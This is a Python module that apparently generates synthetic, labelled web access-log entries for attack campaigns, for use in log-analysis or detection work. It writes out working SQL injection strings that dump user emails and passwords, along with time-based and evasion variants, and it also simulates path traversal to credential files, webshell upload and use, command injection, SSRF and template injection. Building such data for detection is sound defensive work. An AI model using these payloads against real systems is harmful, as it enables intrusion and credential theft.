"""Attacks on one weak spot: injection, traversal, inclusion, upload, by hand and by tool."""

# ruff: noqa: S608, E501 (the SQL here is sent, never run; payloads stay unbroken)

from __future__ import annotations

from dataclasses import dataclass
from urllib.parse import quote, quote_plus

from logvision.schema import Attack, Outcome, Stage
from logvision.sources.generate import payloads
from logvision.sources.generate.addresses import attacker
from logvision.sources.generate.agents import browsers
from logvision.sources.generate.script import Answer, Script
from logvision.sources.generate.site import Site

SQLMAP = "sqlmap/1.9.11#stable (https://sqlmap.org)"


@dataclass(frozen=True, slots=True)
class Spot:
    """A parameter that can be attacked: the target up to the value, what stands behind, its ordinary value."""

    site: Site
    pool: str
    head: str
    value: str
    tail: str = ""

    def target(self, value: str, plus: bool = True) -> str:
        """The target with this value, encoded as a browser or a tool does."""
        return self.head + (quote_plus(value) if plus else quote(value, safe="")) + self.tail


def _spot(script: Script) -> Spot:
    site = script.site("shop", "blog", "docs", "app")
    return {
        "shop": Spot(
            site, "category", f"/c/{script.pick(('lamp', 'tent', 'desk'))}?page=1&sort=", "price_asc"
        ),
        "blog": Spot(site, "search", "/?s=", "coffee"),
        "docs": Spot(site, "code", "/search?type=code&q=", "parser"),
        "app": Spot(site, "search", "/api/v1/search?q=", "release", "&scope=all"),
    }.get(site.name, Spot(site, "home", "/explore?tab=", "popular"))


def _fate(script: Script, weak: float = 0.5, guarded: float = 0.2) -> Outcome:
    """How this campaign will go. The first two of a run go well for the attacker."""
    if script.name.endswith(("-0", "-1")):
        return Outcome.WORKED
    luck = float(script.rng.random())
    return Outcome.WORKED if luck < weak else Outcome.BLOCKED if luck < weak + guarded else Outcome.MISSED


def _look_around(script: Script, spot: Spot, agent: str) -> None:
    for pool in spot.site.pages[:2]:
        found = spot.site.pool(pool.pool)
        if found.method == "GET":
            script.send(
                spot.site, script.pick(found.targets), script.usual(spot.site, pool.pool), agent=agent
            )
            script.wait(4)
    script.send(spot.site, spot.target(spot.value), script.usual(spot.site, spot.pool), agent=agent)
    script.wait(5)


def _browser(script: Script) -> str:
    table = browsers()[:120]
    return table[int(script.rng.integers(len(table)))][0]


def sqli_by_hand(script: Script) -> None:
    """A person with a browser: quote, boolean pair, column count, union, delay."""
    script.actor, agent = attacker(script.rng), _browser(script)
    spot, fate = _spot(script), _fate(script)
    _look_around(script, spot, agent)
    columns = int(script.rng.integers(4, 9))
    nulls = ",".join(["NULL"] * columns)
    pad = ",".join(["NULL"] * (columns - 2))
    usual = script.usual(spot.site, spot.pool)
    full, little = usual, usual.with_size(usual.size // 3)
    steps: list[tuple[str, Answer, Outcome]] = [
        ("'", script.failed(), Outcome.UNKNOWN),
        ("''", full, Outcome.UNKNOWN),
        ("' AND '1'='1", full, Outcome.WORKED),
        ("' AND '1'='2", little, Outcome.WORKED),
        ("' OR 1=1-- -", full.with_size(full.size * 2), Outcome.WORKED),
        *(
            (f"' ORDER BY {n}-- -", full if n <= columns else script.failed(), Outcome.UNKNOWN)
            for n in (1, 5, 10)
        ),
        (f"' UNION SELECT {nulls}-- -", little.with_size(little.size + 320), Outcome.WORKED),
        (f"' UNION SELECT @@version,user(),{pad}-- -", little.with_size(little.size + 410), Outcome.WORKED),
        (
            f"' UNION SELECT table_name,table_schema,{pad} FROM information_schema.tables-- -",
            little.with_size(little.size + 9_800),
            Outcome.WORKED,
        ),
        (
            f"' /*!50000UNION*/ SELECT email,password,{pad} FROM users LIMIT 0,200-- -",
            little.with_size(little.size + 21_300),
            Outcome.WORKED,
        ),
        ("' AND SLEEP(5)-- -", little.later(5.0), Outcome.WORKED),
        ("';WAITFOR DELAY '0:0:5'--", script.failed(), Outcome.UNKNOWN),
    ]
    steps += [
        (
            f"' UNION SELECT email,password,{pad} FROM users LIMIT {200 * n},200-- -",
            little.with_size(little.size + 21_000 + 7 * n),
            Outcome.WORKED,
        )
        for n in range(1, max(1, script.lines - len(steps) - 2))
    ]
    for payload, answer, outcome in steps:
        shown = _as_fated(script, fate, answer, outcome, little)
        script.send(
            spot.site,
            spot.target(spot.value + payload, plus=script.chance(0.5)),
            shown[0],
            agent=agent,
            referer=f"https://{spot.site.host}{spot.target(spot.value)}",
            attack=Attack.SQLI,
            outcome=shown[1],
        )
        script.wait(script.seconds / max(len(steps), script.lines))


def _as_fated(
    script: Script, fate: Outcome, answer: Answer, outcome: Outcome, nothing: Answer
) -> tuple[Answer, Outcome]:
    """The answer where the spot is weak; a firewall's, or an unmoved page's, where it is not."""
    if fate is Outcome.WORKED:
        return answer, outcome
    if fate is Outcome.BLOCKED:
        return script.blocked(), Outcome.BLOCKED
    if nothing.status != 200:
        return nothing, Outcome.MISSED
    return nothing.with_size(nothing.size + int(script.rng.integers(-20, 21))), Outcome.MISSED


def sqli_by_tool(script: Script) -> None:
    """A tool as sqlmap works: every technique in turn, random numbers, tampering now and then."""
    script.actor = attacker(script.rng)
    agent = SQLMAP if script.chance(0.5) else _browser(script)
    spot, fate = _spot(script), _fate(script, weak=0.4)
    usual = script.usual(spot.site, spot.pool)
    little = usual.with_size(usual.size // 3)
    script.send(spot.site, spot.target(spot.value), usual, agent=agent)
    spaces = script.pick((" ", "/**/", "%09", " ", " "))
    dumped = 0
    for turn in range(script.lines - 1):
        script.wait(script.seconds / script.lines)
        a, b = (int(n) for n in script.rng.integers(1000, 9999, 2))
        wide = ",".join(["NULL"] * int(script.rng.integers(1, 11)))
        marker = f"CONCAT(0x71{a:x},(CASE WHEN ({a}={a}) THEN 1 ELSE 0 END),0x71{b:x})"
        share = turn / script.lines
        if share < 0.35:
            true = script.chance(0.5)
            payload, answer = f"' AND {a}={a if true else b} AND '{b:x}'='{b:x}", usual if true else little
            outcome = Outcome.WORKED
        elif share < 0.5:
            payload = f"' AND EXTRACTVALUE({a},CONCAT(0x5c,{marker})) AND 'x'='x"
            answer, outcome = script.failed(), Outcome.UNKNOWN
        elif share < 0.62:
            payload, answer = f"' AND (SELECT {a} FROM (SELECT(SLEEP(5)))x) AND 'y'='y", little.later(5.0)
            outcome = Outcome.WORKED
        elif share < 0.8:
            payload, answer = f"' UNION ALL SELECT {wide},{marker}-- -", script.failed()
            outcome = Outcome.UNKNOWN
        else:
            dumped += 1
            payload = f"' UNION ALL SELECT NULL,CONCAT(0x71{a:x},email,0x7c,passwd),NULL FROM shop.users LIMIT {dumped},1-- -"
            answer, outcome = little.with_size(little.size + 180 + dumped % 23), Outcome.WORKED
        answer, outcome = _as_fated(script, fate, answer, outcome, little)
        script.send(
            spot.site,
            spot.target(spot.value + payload.replace(" ", spaces), plus=False),
            answer,
            agent=agent,
            attack=Attack.SQLI,
            outcome=outcome,
        )


def xss(script: Script) -> None:
    """Payloads into a search box. Whether a script ran, no log line tells; a blocked one it does."""
    script.actor, agent = attacker(script.rng), _browser(script)
    spot, fate = _spot(script), _fate(script, weak=0.4)
    _look_around(script, spot, agent)
    usual = script.usual(spot.site, spot.pool)
    for payload in script.deal(payloads.XSS, script.lines):
        reflected = usual.with_size(usual.size + len(payload))
        answer, outcome = _as_fated(script, fate, reflected, Outcome.UNKNOWN, usual)
        script.send(
            spot.site,
            spot.target(payload),
            answer,
            agent=agent,
            attack=Attack.XSS,
            outcome=outcome,
        )
        script.wait(script.seconds / script.lines)


FILES = {
    "passwd": 1_843,
    "environ": 912,
    "access.log": 262_144,
    "index.php": 5_604,
    "hosts": 221,
    "database.yml": 640,
    ".env": 1_102,
}
"""Size of a file that a climbing path reaches, by a word of the path."""


def traversal(script: Script) -> None:
    """Climbing out of a download's folder; where it works a small file of a telling size comes back."""
    script.actor, agent = attacker(script.rng), script.pick((_browser(script), *payloads.PLAIN_TOOLS[:3]))
    site, fate = script.site("docs"), _fate(script, weak=0.5)
    head = "/download?file="
    script.send(site, head + "manuals%2Foak-desk.pdf", Answer(200, 240_000, 8_000), agent=agent)
    for payload in script.deal(payloads.TRAVERSALS, script.lines - 1):
        script.wait(script.seconds / script.lines)
        raw = "%" in payload or script.chance(0.5)
        size = next((size for word, size in FILES.items() if payload.endswith(word)), 0)
        # The weak code strips nothing and decodes once.
        opens = size and payload.startswith(("../", "..%2f", "/etc", "manuals"))
        answer, outcome = (
            (Answer(200, size, 3_000), Outcome.WORKED) if opens else (script.missing(site), Outcome.MISSED)
        )
        answer, outcome = _as_fated(script, fate, answer, outcome, script.missing(site))
        where = head + (payload if raw else quote(payload, safe=""))
        if not opens and script.chance(0.3):
            where = "/docs/" + payload.lstrip("/").replace("\\", "%5c")
        script.send(site, where, answer, agent=agent, attack=Attack.TRAVERSAL, outcome=outcome)


def log4shell(script: Script) -> None:
    """Lookups in every field that may be logged. Whether one was resolved, the answer does not say."""
    script.actor = attacker(script.rng)
    guarded = _fate(script, weak=0.8) is Outcome.BLOCKED
    for payload in script.deal(payloads.JNDI, script.lines):
        site = script.site()
        place = int(script.rng.integers(4))
        plain = script.pick(payloads.PLAIN_TOOLS[:4])
        target = f"/?x={payload}" if place == 0 else f"/{quote(payload, safe='$')}" if place == 3 else "/"
        answer = script.missing(site) if place == 3 else script.usual(site, site.pages[0].pool)
        outcome = Outcome.MISSED if place == 3 else Outcome.UNKNOWN
        if guarded:
            answer, outcome = script.blocked(), Outcome.BLOCKED
        script.send(
            site,
            target,
            answer,
            agent=payload if place in (1, 3) else plain,
            referer=payload if place == 2 else "-",
            attack=Attack.LOG4SHELL,
            outcome=outcome,
        )
        script.wait(script.seconds / script.lines)


def webshell(script: Script) -> None:
    """Names of known shells are tried, one is uploaded through a weak plugin and used."""
    script.actor, agent = attacker(script.rng), script.pick((_browser(script), "python-requests/2.32.5"))
    site, fate = script.site("blog"), _fate(script, weak=0.6)
    if script.name == "webshell-3":
        fate = Outcome.WORKED
    pace = script.seconds / script.lines
    for name in script.deal(payloads.SHELL_NAMES, script.lines // 3):
        answer, outcome = _as_fated(script, fate, script.missing(site), Outcome.MISSED, script.missing(site))
        script.send(
            site, f"/{name}", answer, agent=agent, attack=Attack.WEBSHELL, outcome=outcome, stage=Stage.PROBE
        )
        script.wait(pace)
    name = f"/wp-content/uploads/2026/11/{script.pick(('cache', 'thumb', 'font', 'wp'))}-{script.rng.integers(16**5):05x}.php"
    upload = "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"
    took, worked = Answer(200, 612, 190_000), Outcome.WORKED
    answer, outcome = _as_fated(script, fate, took, worked, script.missing(site))
    script.send(site, upload, answer, agent=agent, method="POST", attack=Attack.WEBSHELL, outcome=outcome)
    for turn, command in enumerate(script.deal(payloads.SHELL_COMMANDS, script.lines - len(script.rows))):
        script.wait(pace)
        given = Answer(200, int(script.rng.integers(40, 4_000)), int(script.rng.integers(8_000, 90_000)))
        answer, outcome = _as_fated(script, fate, given, worked, script.missing(site))
        silent = turn % 4 == 3
        script.send(
            site,
            name if silent else f"{name}?cmd={quote_plus(command)}",
            answer,
            agent=agent,
            method="POST" if silent else "GET",
            attack=Attack.WEBSHELL,
            outcome=outcome,
            stage=Stage.FOOTHOLD if outcome is worked else Stage.EXPLOIT,
        )


def command_injection(script: Script) -> None:
    """Shell words behind a parameter; a delay or a new size tells that one ran."""
    script.actor, agent = attacker(script.rng), script.pick((_browser(script), *payloads.PLAIN_TOOLS[:3]))
    site, fate = script.site("docs"), _fate(script, weak=0.4)
    usual = script.usual(site, "download") if site.name == "docs" else script.usual(site, site.pages[0].pool)
    nothing = script.missing(site)
    script.send(site, "/download?file=manuals%2Foak-desk.pdf", usual, agent=agent)
    for payload in script.deal((*payloads.COMMANDS, ";sleep 5", "$(sleep 5)"), script.lines - 1):
        script.wait(script.seconds / script.lines)
        shown = (
            nothing.later(5.0)
            if "sleep 5" in payload
            else Answer(200, int(script.rng.integers(50, 1_900)), 12_000)
        )
        answer, outcome = _as_fated(script, fate, shown, Outcome.WORKED, nothing)
        target = (
            "/download?file="
            + quote_plus("manuals/oak-desk.pdf")
            + (payload if "%" in payload else quote_plus(payload))
        )
        inside = outcome is Outcome.WORKED
        script.send(
            site, target, answer, agent=agent, attack=Attack.RCE, outcome=outcome,
            stage=Stage.FOOTHOLD if inside else Stage.EXPLOIT,
        )  # fmt: skip


def ssrf(script: Script) -> None:
    """Inner addresses given to a preview that fetches what it is told."""
    script.actor, agent = attacker(script.rng), _browser(script)
    site, fate = script.site("app"), _fate(script, weak=0.5)
    head = "/api/v1/preview?url="
    script.send(
        site, head + quote("https://example.org/?a=1", safe=""), Answer(200, 1_350, 380_000), agent=agent
    )
    for payload in script.deal(payloads.INSIDE, script.lines - 1):
        script.wait(script.seconds / script.lines)
        refused = Answer(422, 92, 2_000)
        opens = payload.startswith("http://169") or "127.0.0.1:6379/" in payload or "metadata" in payload
        answer, outcome = (
            (Answer(200, 287 + len(payload) * 9, 12_000), Outcome.WORKED)
            if opens
            else (refused, Outcome.MISSED)
        )
        answer, outcome = _as_fated(script, fate, answer, outcome, refused)
        script.send(
            site, head + quote(payload, safe=""), answer, agent=agent, attack=Attack.SSRF, outcome=outcome
        )


def template_injection(script: Script) -> None:
    """Template expressions into a search box; an evaluated one changes the page."""
    script.actor, agent = attacker(script.rng), _browser(script)
    spot, fate = _spot(script), _fate(script, weak=0.4)
    _look_around(script, spot, agent)
    usual = script.usual(spot.site, spot.pool)
    for payload in script.deal(payloads.TEMPLATES, script.lines):
        telling = len(payload) > 12 and payload.startswith("{{")
        grown = (
            usual.with_size(usual.size + (14_200 if "subclasses" in payload else 1_900)) if telling else usual
        )
        answer, outcome = _as_fated(
            script, fate, grown, Outcome.WORKED if telling else Outcome.UNKNOWN, usual
        )
        script.send(spot.site, spot.target(payload), answer, agent=agent, attack=Attack.SSTI, outcome=outcome)
        script.wait(script.seconds / script.lines)
